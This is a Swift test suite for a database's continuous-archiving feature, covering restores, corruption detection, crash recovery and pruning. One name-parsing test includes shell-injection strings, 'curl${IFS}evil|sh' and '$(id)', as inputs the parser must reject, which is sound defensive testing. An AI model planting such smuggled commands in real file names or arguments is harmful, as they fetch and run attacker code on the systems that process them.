import Foundation
import SoftadastraTestSupport
import Testing

@testable import Softadastra

/// Continuous archiving: chains restored to many points against an independent model, every
/// kind of damage to a chain caught before anything is touched, a segment interrupted by a crash
/// shipped again byte for byte, checkpoints that keep what is not shipped yet, and a node whose
/// history changed starting a new chain.
@Suite struct ArchiveTests {
  /// A node's writes as an independent model: what each LSN did.
  final class Model {
    var log: [(lsn: UInt64, key: String, value: String?)] = []
    /// The last LSN of each batch: where a restore can stop.
    var batchEnds: [UInt64] = []
    var random = SplitMix64(seed: 7)
    let client: Client

    init(_ client: Client) { self.client = client }

    /// One write, or a batch of three.
    func step() throws {
      var operations: [(String, String?)] = []
      for _ in 0..<(random.next() % 5 == 0 ? 3 : 1) {
        let key = "k\(random.next() % 30)"
        operations.append((key, random.next() % 4 == 0 ? nil : "v\(random.next() % 1000)"))
      }
      let lsns = try client.commit(
        operations.map { key, value in
          value.map { .put(key: Array(key.utf8), value: Array($0.utf8)) } ?? .delete(key: Array(key.utf8))
        })!
      for (index, (key, value)) in operations.enumerated() {
        log.append((lsns.lowerBound + UInt64(index), key, value))
      }
      batchEnds.append(lsns.upperBound)
    }

    func state(upTo lsn: UInt64) -> [String: String] {
      var state: [String: String] = [:]
      for entry in log where entry.lsn <= lsn { state[entry.key] = entry.value }
      return state
    }
  }

  static func client(_ wal: String) throws -> Client {
    var options = ClientOptions.persistent(nodeID: "node-a", walPath: wal)
    options.checkpointBytes = 0
    options.autoFlush = false
    let client = Client(options)
    try client.open()
    return client
  }

  static func archiver(
    _ wal: String, to directory: String, segmentBytes: UInt64 = 1_500, baseEveryBytes: UInt64 = 1 << 30
  )
    throws -> Archiver
  {
    try Archiver(
      walPath: wal, destination: ArchiveDirectory(directory),
      options: Archiver.Options(baseEveryBytes: baseEveryBytes, segmentBytes: segmentBytes, toolVersion: "test"))
  }

  /// A node with five writes, archived once (a base) into a destination of its own.
  struct Archived {
    let node = TemporaryDirectory()
    let destination = TemporaryDirectory()
    let wal: String
    let model: Model
    let archiver: Archiver

    init(segmentBytes: UInt64 = 1_500) throws {
      wal = node.file("node-a.wal")
      model = Model(try ArchiveTests.client(wal))
      for _ in 0..<5 { try model.step() }
      archiver = try ArchiveTests.archiver(wal, to: destination.path, segmentBytes: segmentBytes)
      _ = try archiver.ship()
    }
  }

  /// Restores the chain at `directory` to `target` into a new directory; returns the restore and
  /// the restored node's entries.
  static func restore(_ directory: String, to target: ReplayTarget = ReplayTarget()) throws -> (
    RestoreResult, [String: String]
  ) {
    let chain = try ArchiveChain(location: ArchiveDirectory(directory), nodeID: nil, target: target)
    let wal = TemporaryDirectory().file("node-a.wal")
    let result = try Restore.run(archive: chain, walPath: wal, nodeID: "node-a", target: target)
    return (result, try Client.readOnlyTextEntries(walPath: wal))
  }

  static func names(_ directory: String) -> [String] {
    ((try? FileManager.default.contentsOfDirectory(atPath: directory)) ?? []).filter { !$0.hasPrefix(".") }.sorted()
  }

  static let vectorURL = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent(
    "Vectors/every-type.sdsegment")

  /// The vector in docs/archive-format.md: the records of the WAL test vector every-type.wal as
  /// one segment continuing the backup vector every-type-v3.sdbackup (base LSN 0), at level 0
  /// (stored deflate blocks, independent of the zlib version), at a fixed time.
  @Test func theSegmentWriterReproducesTheCommittedVector() throws {
    let directory = TemporaryDirectory()
    let tests = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
    let base = try BackupArchive(path: BackupRestoreTests.olderVectorURLs[1].path)
    var scanner = try WALScanner(path: tests.appendingPathComponent("SoftadastraWALTests/Vectors/every-type.wal").path)
    let path = directory.file("every-type.sdsegment")
    let writer = try SegmentWriter(
      file: try SystemFile.createExclusive(path), nodeID: "node-a", firstLSN: 1,
      createdMilliseconds: 1_795_594_149_000, level: 0)
    while let scanned = try scanner.next() { try writer.add(scanned.record, checksum: scanned.checksum) }
    let manifest = try writer.finish(
      toolVersion: "0.1.0", baseLSN: base.manifest.lastLSN - 10, baseChecksum: base.manifestChecksum,
      previousChecksum: 0)
    let bytes = try Data(contentsOf: URL(fileURLWithPath: path))
    if ProcessInfo.processInfo.environment["SOFTADASTRA_UPDATE_VECTORS"] == "1" { try bytes.write(to: Self.vectorURL) }
    #expect(bytes == (try Data(contentsOf: Self.vectorURL)))
    // Nine records: one of them is a lost range of two LSNs.
    #expect(manifest.firstLSN == 1 && manifest.lastLSN == 10 && manifest.recordCount == 9)
    #expect(manifest.fileName == "node-a.00000000000000000001-00000000000000000010.8628f18c.sdsegment")
    let segment = try ArchiveSegment(path: Self.vectorURL.path)
    var lsns: [UInt64] = []
    try segment.forEachRecord(scratchDirectory: directory.path) { scanned throws(SoftadastraError) in
      lsns.append(scanned.record.lsn)
    }
    #expect(lsns.count == 9 && lsns.first == 1 && segment.manifest == manifest)
  }

  /// A manifest whose lengths, with valid checksums, would overflow a sum is damage, not a trap.
  @Test func aCraftedSegmentWithImpossibleLengthsIsDamageNotACrash() throws {
    var bytes = FileBytes.read(Self.vectorURL.path)
    let manifestOffset = 517
    let huge = UInt64.max - 27
    // The frame's length, and the manifest's stored length (after the level, kind and offset).
    withUnsafeBytes(of: huge.littleEndian) { bytes.replaceSubrange(20..<28, with: $0) }
    let lengthField = manifestOffset + 113 - 20
    withUnsafeBytes(of: huge.littleEndian) { bytes.replaceSubrange(lengthField..<lengthField + 8, with: $0) }
    let checksum = CRC32C.checksum(Array(bytes[manifestOffset..<manifestOffset + 113]))
    withUnsafeBytes(of: checksum.littleEndian) {
      bytes.replaceSubrange(manifestOffset + 117..<manifestOffset + 121, with: $0)
    }
    let directory = TemporaryDirectory()
    FileBytes.write(bytes, to: directory.file("crafted.sdsegment"))
    #expect(SegmentManifest.decode(Array(bytes[manifestOffset..<manifestOffset + 113]))?.part.length == huge)
    #expect {
      try ArchiveSegment(path: directory.file("crafted.sdsegment"))
    } throws: { error in
      (error as? SoftadastraError)?.kind == .corrupt
    }
  }

  @Test func namesParseOnlyWhatTheArchiverWrites() {
    #expect(
      ArchiveNames.parse("node-a.00000000000000000005.20261201T170514Z.0a1b2c3d.base.sdbackup")
        == .base(nodeID: "node-a", lastLSN: 5, time: "20261201T170514Z", checksum: 0x0a1b_2c3d))
    #expect(
      ArchiveNames.parse("my.node.00000000000000000006-00000000000000000009.ffffffff.sdsegment")
        == .segment(nodeID: "my.node", firstLSN: 6, lastLSN: 9, baseChecksum: 0xffff_ffff))
    for name in [
      "n.00000000000000000001.z;curl${IFS}evil|sh.0a1b2c3d.base.sdbackup",
      "n.00000000000000000001.20261201T170514Z;x.0a1b2c3d.base.sdbackup",
      "n.00000000000000000001.20261201T170514Z.0a1b2c3;.base.sdbackup",
      "n.00000000000000000001.20261201T170514Z.base.sdbackup", "n.1.20261201T170514Z.0a1b2c3d.base.sdbackup",
      "n.00000000000000000009-00000000000000000006.0a1b2c3d.sdsegment",
      "n.00000000000000000001-00000000000000000001.sdsegment",
      "n.00000000000000000001-00000000000000000001.0A1B2C3D.sdsegment",
      ".hidden.00000000000000000001-00000000000000000001.0a1b2c3d.sdsegment",
      "n$(id).00000000000000000001-00000000000000000001.0a1b2c3d.sdsegment",
    ] {
      #expect(ArchiveNames.parse(name) == nil, "\(name)")
    }
  }

  @Test func pointInTimeRestoresFromChainsEqualAnIndependentModel() throws {
    let node = TemporaryDirectory()
    let wal = node.file("node-a.wal")
    let destination = TemporaryDirectory()
    let model = Model(try Self.client(wal))
    var archiver: Archiver? = try Self.archiver(wal, to: destination.path)
    var shipped: [Archiver.Shipped] = []
    for round in 0..<6 {
      for _ in 0..<40 { try model.step() }
      if round == 2 { try model.client.checkpoint() }
      shipped += try archiver!.ship()
      if round == 3 {
        // A new base is due after every look from now on: a new chain starts after each.
        archiver = nil
        archiver = try Self.archiver(wal, to: destination.path, baseEveryBytes: 1)
      }
    }
    try model.client.close()
    let last = model.log.last!.lsn
    #expect(shipped.filter { $0.kind == .base }.count == 3)
    #expect(shipped.filter { $0.kind == .segment }.count >= 8, "small segments: several per look")
    #expect(shipped.last!.lastLSN == last)
    let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
    #expect(survey.isSound, "\(survey.problems.map(\.message))")
    #expect(survey.chains.count == 3 && survey.chains.last!.lastLSN == last)

    var times: [UInt64: UInt64] = [:]
    for path in [NodeFiles(walPath: wal).segments().map(\.path), [wal]].joined() {
      var scanner = try WALScanner(path: path)
      while let scanned = try scanner.next() { times[scanned.record.lsn] = scanned.record.timestamp.milliseconds }
    }
    // A restore stops after the last whole batch within the target.
    for target in stride(from: 1, through: Int(last), by: 7).map(UInt64.init) + [last] {
      let (result, entries) = try Self.restore(destination.path, to: ReplayTarget(lsn: target))
      #expect(result.lsn == model.batchEnds.filter { $0 <= target }.max() ?? 0, "LSN \(target)")
      #expect(entries == model.state(upTo: result.lsn), "LSN \(target)")
    }
    for lsn in [UInt64(37), 130, last - 3] {
      let time = try #require(times[lsn])
      let (result, entries) = try Self.restore(destination.path, to: ReplayTarget(milliseconds: time))
      #expect(times[result.lsn]! <= time)
      #expect(entries == model.state(upTo: result.lsn), "time of LSN \(lsn)")
    }
    let (latest, entries) = try Self.restore(destination.path)
    #expect(latest.lsn == last)
    #expect(entries == model.state(upTo: last))
    #expect(throws: SoftadastraError.self) { try Self.restore(destination.path, to: ReplayTarget(lsn: last + 1)) }
  }

  /// A chain of a base and four segments, and a target node a failed restore must leave as it was.
  static func chainAndTarget() throws -> (
    destination: TemporaryDirectory, target: TemporaryDirectory, before: [String: Data]
  ) {
    let archived = try Archived(segmentBytes: 300)
    let (destination, model, archiver) = (archived.destination, archived.model, archived.archiver)
    for _ in 0..<20 { try model.step() }
    _ = try archiver.ship()
    try model.client.close()
    let target = TemporaryDirectory()
    let targetWAL = target.file("node-a.wal")
    let existing = try Self.client(targetWAL)
    try existing.put("old", "state")
    try existing.close()
    return (destination, target, try BackupRestoreTests.contents(of: target.path))
  }

  static func restoreFails(_ directory: String, into targetWAL: String, before: [String: Data]) -> Bool {
    do {
      let chain = try ArchiveChain(location: ArchiveDirectory(directory), nodeID: nil)
      _ = try Restore.run(archive: chain, walPath: targetWAL, nodeID: "node-a", force: true)
      return false
    } catch {
      return (try? BackupRestoreTests.contents(of: FileSystem.directory(of: targetWAL))) == before
    }
  }

  @Test func everyFlipAndCutOfAChainFileIsCaughtAndRestoreLeavesTheTargetUntouched() throws {
    let (destination, target, before) = try Self.chainAndTarget()
    let targetWAL = target.file("node-a.wal")
    let names = Self.names(destination.path)
    #expect(names.count >= 4)
    #expect(try ArchiveSurvey.run(location: ArchiveDirectory(destination.path)).isSound)
    for name in names {
      let path = destination.file(name)
      let original = FileBytes.read(path)
      let isSegment = name.hasSuffix(".sdsegment")
      // Every byte of the first segment; a sample of the others.
      let stride = isSegment && name == names.first(where: { $0.hasSuffix(".sdsegment") }) ? 1 : 13
      for offset in Swift.stride(from: 0, to: original.count, by: stride) {
        var bytes = original
        bytes[offset] ^= UInt8(1 << (offset % 8))
        FileBytes.write(bytes, to: path)
        let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
        #expect(!survey.isSound, "flip at \(offset) of \(name)")
        if offset % 7 == 0 {
          #expect(Self.restoreFails(destination.path, into: targetWAL, before: before), "flip at \(offset) of \(name)")
        }
      }
      for length in Swift.stride(from: 0, to: original.count, by: isSegment ? 3 : 29) {
        FileBytes.write(Array(original[0..<length]), to: path)
        #expect(
          !(try ArchiveSurvey.run(location: ArchiveDirectory(destination.path)).isSound), "\(name) cut to \(length)")
        if length % 2 == 0 {
          #expect(Self.restoreFails(destination.path, into: targetWAL, before: before), "\(name) cut to \(length)")
        }
      }
      FileBytes.write(original, to: path)
    }
    #expect(try ArchiveSurvey.run(location: ArchiveDirectory(destination.path)).isSound)
  }

  @Test func aMissingRenamedOrDuplicatedSegmentIsCaughtAndRefused() throws {
    let (destination, target, before) = try Self.chainAndTarget()
    let targetWAL = target.file("node-a.wal")
    let segments = Self.names(destination.path).filter { $0.hasSuffix(".sdsegment") }
    #expect(segments.count >= 3)
    // Missing: the chain would stop short of records that are archived after it.
    let middle = destination.file(segments[1])
    let saved = FileBytes.read(middle)
    try FileManager.default.removeItem(atPath: middle)
    let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
    #expect(survey.problems.contains { $0.message.contains("missing LSN") })
    #expect(Self.restoreFails(destination.path, into: targetWAL, before: before))
    // A time the missing records reach, before the next segment's first: refused too.
    let missingEnd = try ArchiveSegment(path: destination.file(segments[0])).manifest.lastRecordMilliseconds
    #expect(throws: SoftadastraError.self) {
      try ArchiveChain(
        location: ArchiveDirectory(destination.path), nodeID: nil, target: ReplayTarget(milliseconds: missingEnd + 1))
    }
    FileBytes.write(saved, to: middle)
    // Renamed: a copy under another range is not what its name says.
    guard case .segment(_, let first, let last, let chain) = ArchiveNames.parse(segments[1]) else {
      Issue.record("unparsed \(segments[1])")
      return
    }
    let renamed = destination.file(
      ArchiveNames.segmentName(nodeID: "node-a", firstLSN: first, lastLSN: last + 1, baseChecksum: chain))
    FileBytes.write(saved, to: renamed)
    #expect(
      try ArchiveSurvey.run(location: ArchiveDirectory(destination.path)).problems.contains {
        $0.message.contains("renamed")
      })
    #expect(Self.restoreFails(destination.path, into: targetWAL, before: before))
    try FileManager.default.removeItem(atPath: renamed)
    #expect(try ArchiveSurvey.run(location: ArchiveDirectory(destination.path)).isSound)
  }

  @Test func twoSegmentsContinuingOneChainFromOneLSNAreRefused() throws {
    let archived = try Archived()
    let (wal, destination, model, archiver) = (archived.wal, archived.destination, archived.model, archived.archiver)
    let statePath = ArchiveState.path(walPath: wal)
    let afterBase = FileBytes.read(statePath)
    for _ in 0..<3 { try model.step() }
    _ = try archiver.ship()
    // The state put back (say, from a file-system snapshot): the same records and more are shipped
    // again under another name, and the chain has two continuations at one LSN.
    FileBytes.write(afterBase, to: statePath)
    for _ in 0..<3 { try model.step() }
    _ = try archiver.ship()
    try model.client.close()
    let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
    #expect(survey.problems.contains { $0.message.contains("overlaps") })
    #expect(throws: SoftadastraError.self) { try Self.restore(destination.path) }
  }

  @Test func aSegmentInterruptedByACrashIsShippedAgainByteForByteUnderItsName() throws {
    let archived = try Archived(segmentBytes: 1 << 20)
    let (wal, destination, model, archiver) = (archived.wal, archived.destination, archived.model, archived.archiver)
    let before = try #require(try archiver.state())
    for _ in 0..<10 { try model.step() }
    let shipped = try archiver.ship()
    #expect(shipped.count == 1)
    let name = shipped[0].name
    let bytes = FileBytes.read(destination.file(name))
    let after = try #require(try archiver.state())
    // The crash: the segment was recorded as pending, perhaps stored, not yet acknowledged; its
    // file beside the node kept (the usual case) or lost (then it is written again from the log).
    var crashed = before
    crashed.pending = ArchiveState.Pending(
      firstLSN: before.shippedLSN + 1, lastLSN: after.shippedLSN, lastChecksum: after.shippedChecksum,
      createdMilliseconds: try ArchiveSegment(path: destination.file(name)).manifest.createdMilliseconds, level: 6)
    let pendingFile = archived.node.file("node-a.archive-segment")
    #expect(!FileManager.default.fileExists(atPath: pendingFile), "removed once stored")
    for (stored, kept) in [(true, true), (false, true), (true, false), (false, false)] {
      try crashed.save(walPath: wal)
      if kept { FileBytes.write(bytes, to: pendingFile) }
      if !stored { try FileManager.default.removeItem(atPath: destination.file(name)) }
      for _ in 0..<2 { try model.step() }
      let again = try archiver.ship()
      #expect(again.first?.name == name, "stored before the crash: \(stored), file kept: \(kept)")
      #expect(FileBytes.read(destination.file(name)) == bytes)
      #expect(again.count == 2, "then the records after it")
      #expect(try archiver.state()?.pending == nil)
      #expect(!FileManager.default.fileExists(atPath: pendingFile))
      try FileManager.default.removeItem(atPath: destination.file(again[1].name))
    }
    // A name is never given other bytes.
    var other = bytes
    other[20] ^= 1
    FileBytes.write(other, to: destination.file(name))
    try crashed.save(walPath: wal)
    #expect(throws: SoftadastraError.self) { try archiver.ship() }
    #expect(try archiver.state()?.failures == 1)
    #expect(FileBytes.read(destination.file(name)) == other)
    try model.client.close()
  }

  @Test func pruningRemovesWholeChainsAndKeepsTheNewest() throws {
    let node = TemporaryDirectory()
    let wal = node.file("node-a.wal")
    let destination = TemporaryDirectory()
    let model = Model(try Self.client(wal))
    // A new base after every look that shipped records: three chains, two of them with segments.
    let archiver = try Self.archiver(wal, to: destination.path, segmentBytes: 200, baseEveryBytes: 1)
    for _ in 0..<3 {
      for _ in 0..<8 { try model.step() }
      _ = try archiver.ship()
    }
    try model.client.close()
    let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path), quick: true)
    #expect(survey.isSound && survey.chains.count == 3)
    let now = HybridTimestamp.wallClockMilliseconds()
    #expect(survey.planPrune(keep: nil, keepWithinMilliseconds: 60_000, nowMilliseconds: now).remove.isEmpty)
    let plan = survey.planPrune(keep: 2, keepWithinMilliseconds: nil, nowMilliseconds: now)
    let newest = survey.chains.max { $0.base.createdMilliseconds < $1.base.createdMilliseconds }!
    #expect(plan.keep.contains(newest.baseName))
    #expect(Set(plan.keep + plan.remove) == Set(Self.names(destination.path)))
    for name in plan.remove { try FileManager.default.removeItem(atPath: destination.file(name)) }
    let after = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
    #expect(after.isSound && after.chains.count == 2, "\(after.problems.map(\.message))")
    #expect(plan.remove.count >= 2, "a base and its segments")
    #expect(try Self.restore(destination.path).1 == model.state(upTo: model.log.last!.lsn))
    // Even keeping none by count or age, the newest chain stays.
    #expect(after.planPrune(keep: nil, keepWithinMilliseconds: 1, nowMilliseconds: now + 10_000_000).keep.count >= 1)
  }

  /// A base stored whose store then failed (a timeout after the bytes arrived) is never extended:
  /// restores and pruning follow the chain that is, and a quiet time before a due base is the end
  /// of the chain before it.
  @Test func theChainExtendedLastIsTheCurrentOneAndAQuietTimeIsCovered() throws {
    let node = TemporaryDirectory()
    let wal = node.file("node-a.wal")
    let destination = TemporaryDirectory()
    let model = Model(try Self.client(wal))
    for _ in 0..<5 { try model.step() }
    var archiver: Archiver? = try Self.archiver(wal, to: destination.path, segmentBytes: 1 << 20)
    for _ in 0..<2 {
      for _ in 0..<5 { try model.step() }
      _ = try archiver!.ship()
    }
    // The stray base: a backup of the node stored under a base's name, never recorded.
    let stray = node.file("stray")
    let written = try BackupWriter.write(walPath: wal, toPath: stray, toolVersion: "test")
    let strayName = ArchiveNames.baseName(
      nodeID: "node-a", lastLSN: written.manifest.lastLSN, createdMilliseconds: written.manifest.createdMilliseconds,
      checksum: try BackupArchive(path: stray).manifestChecksum)
    try FileManager.default.copyItem(atPath: stray, toPath: destination.file(strayName))
    for _ in 0..<5 { try model.step() }
    _ = try archiver!.ship()
    let (latest, entries) = try Self.restore(destination.path)
    #expect(latest.lsn == model.log.last!.lsn)
    #expect(entries == model.state(upTo: model.log.last!.lsn))
    let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path), quick: true)
    let plan = survey.planPrune(
      keep: 1, keepWithinMilliseconds: nil, nowMilliseconds: HybridTimestamp.wallClockMilliseconds())
    #expect(plan.remove == [strayName], "\(plan)")
    try FileManager.default.removeItem(atPath: destination.file(strayName))
    // Quiet, then a due base of the same history: a time in between is the first chain's end.
    let quietEnd = try #require(try archiver!.state()).shippedLSN
    archiver = nil
    var scanner = try WALScanner(path: wal)
    var lastTime: UInt64 = 0
    while let scanned = try scanner.next() { lastTime = scanned.record.timestamp.milliseconds }
    let quiet = lastTime + 1
    // The clock passes that time before the due base is made (a wait on the clock, not a delay).
    while HybridTimestamp.wallClockMilliseconds() <= quiet + 1 { sched_yield() }
    let due = try Self.archiver(wal, to: destination.path, segmentBytes: 1 << 20, baseEveryBytes: 1)
    _ = try due.ship()
    _ = try due.ship()
    #expect(try due.state()?.baseLSN == quietEnd, "a due base at the same LSN")
    let (atQuiet, quietEntries) = try Self.restore(destination.path, to: ReplayTarget(milliseconds: quiet))
    #expect(atQuiet.lsn == quietEnd)
    #expect(quietEntries == model.state(upTo: quietEnd))
    try model.client.close()
  }

  @Test func checkpointsKeepTheSealedLogsArchivingHasNotShipped() throws {
    let archived = try Archived()
    let (wal, destination, model, archiver) = (archived.wal, archived.destination, archived.model, archived.archiver)
    let shippedLSN = try #require(try archiver.state()).shippedLSN
    for _ in 0..<4 {
      for _ in 0..<10 { try model.step() }
      try model.client.checkpoint()
    }
    // Without archiving, three checkpoints on, the first sealed logs would be gone.
    let files = NodeFiles(walPath: wal)
    #expect(files.segments().first.map { $0.firstLSN <= shippedLSN + 1 } == true)
    _ = try archiver.ship()
    for _ in 0..<10 { try model.step() }
    try model.client.checkpoint()
    #expect(files.segments().allSatisfy { $0.firstLSN > shippedLSN + 1 })
    let shipped = try #require(try archiver.state()).shippedLSN
    let (result, entries) = try Self.restore(destination.path)
    #expect(result.lsn == shipped && shipped < model.log.last!.lsn)
    #expect(entries == model.state(upTo: shipped))
    try model.client.close()
  }

  @Test func aRestoredNodeStartsANewChainAndASecondArchiverIsRefused() throws {
    let node = TemporaryDirectory()
    let wal = node.file("node-a.wal")
    let destination = TemporaryDirectory()
    var model = Model(try Self.client(wal))
    for _ in 0..<10 { try model.step() }
    try model.client.close()
    let backup = node.file("early.sdbackup")
    _ = try BackupRestoreTests.backup(wal, to: backup)
    let archiver = try Self.archiver(wal, to: destination.path)
    #expect(throws: SoftadastraError.self) { try Self.archiver(wal, to: destination.path) }
    var reasons: [String] = []
    archiver.onNewChain = { reasons.append($0) }
    let early = model.log
    model = Model(try Self.client(wal))
    model.log = early
    for _ in 0..<10 { try model.step() }
    _ = try archiver.ship()
    var scanner = try WALScanner(path: wal)
    var lastTime: UInt64 = 0
    while let scanned = try scanner.next() { lastTime = scanned.record.timestamp.milliseconds }
    let oldEnd = (
      lsn: model.log.last!.lsn, state: model.state(upTo: model.log.last!.lsn), timestamp: Int64(lastTime),
      stored: try #require(try archiver.state()).lastShippedMilliseconds
    )
    try model.client.close()
    let restored = try Restore.run(
      archive: try BackupArchive(path: backup), walPath: wal, nodeID: "node-a", force: true)
    // The restore set the archiving state aside with the old files (it follows the old history);
    // put back by hand, the archiver finds that the node's history moved on.
    let statePath = ArchiveState.path(walPath: wal)
    let asideState = try #require(restored.keptAside.first { $0.hasPrefix(statePath + ".pre-restore-") })
    #expect(!FileManager.default.fileExists(atPath: statePath))
    try FileManager.default.copyItem(atPath: asideState, toPath: statePath)
    model = Model(try Self.client(wal))
    model.random = SplitMix64(seed: 1234)
    model.log = early
    for _ in 0..<5 { try model.step() }
    let shipped = try archiver.ship()
    #expect(shipped.first?.kind == .base)
    #expect(reasons.count == 1, "\(reasons)")
    let (result, entries) = try Self.restore(destination.path)
    #expect(result.lsn == model.log.last!.lsn)
    #expect(entries == model.state(upTo: model.log.last!.lsn))
    let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
    #expect(survey.isSound && survey.chains.count == 2)
    // A time before the node was restored gives the state it had then: the old history's.
    let (before, beforeEntries) = try Self.restore(
      destination.path, to: ReplayTarget(milliseconds: UInt64(oldEnd.timestamp)))
    #expect(before.lsn == oldEnd.lsn)
    #expect(beforeEntries == oldEnd.state)
    // After the old chain's last file and before the restore, the state is in no chain: refused.
    if oldEnd.stored > Int64(lastTime) + 1 {
      #expect(throws: SoftadastraError.self) {
        try Self.restore(destination.path, to: ReplayTarget(milliseconds: UInt64(oldEnd.stored) + 1))
      }
    }
    try model.client.close()
  }
}
